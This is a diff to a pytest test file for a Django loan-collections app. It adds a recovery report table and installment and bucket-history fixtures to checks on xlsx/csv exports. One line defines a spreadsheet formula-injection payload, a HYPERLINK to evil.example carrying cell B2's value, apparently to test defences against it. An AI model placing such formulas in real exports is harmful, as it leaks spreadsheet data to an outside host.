@@ -13,7 +13,7 @@ from collections_app import models as m
 from tests import factories as f
 
 pytestmark = pytest.mark.django_db
-TABLES = ["summary", "aging", "roll", "sla", "league"]
+TABLES = ["summary", "recovery", "aging", "roll", "sla", "league"]
 LINK = '=HYPERLINK("http://evil.example/?d="&B2,"details")'
 
 
@@ -29,7 +29,12 @@ def book(lender, team, collector):
                          overdue_amount=D("1050.00"))
     m.CollectionCase.objects.filter(pk=case.pk).update(first_contact_due_at=timezone.now() - dt.timedelta(hours=3))
     loan = f.LoanFactory(lender=lender, borrower=borrower, case=case)
-    f.PaymentFactory(loan=loan, paid_on=timezone.localdate(), amount=D("300.00"))
+    today = timezone.localdate()
+    f.InstallmentFactory(loan=loan, seq=1, due_date=today - dt.timedelta(days=40), principal_due=D("1350.00"),
+                         interest_due=D("0"))
+    f.PaymentFactory(loan=loan, paid_on=today, amount=D("300.00"))
+    m.BucketHistory.objects.create(loan=loan, lender=lender, on_date=today - dt.timedelta(days=9), from_bucket="M0",
+                                   to_bucket="M1", dpd=31)
     return case
 
 
@@ -72,7 +77,7 @@ def test_every_table_exports_as_xlsx_with_the_csv_figures(client, supervisor, bo
 def test_money_is_a_number_with_two_decimals_in_xlsx(client, supervisor, book):
     client.force_login(supervisor)
     cells = xlsx_rows(export(client, "aging", "xlsx"))
-    bucket, count, overdue, _outstanding = cells[1]
+    bucket, count, _cases, overdue, _outstanding = cells[1]
     assert bucket.value == "M1" and count.value == 1 and count.data_type == "n"
     assert overdue.value == 1050 and overdue.data_type == "n" and overdue.number_format == "0.00"
 
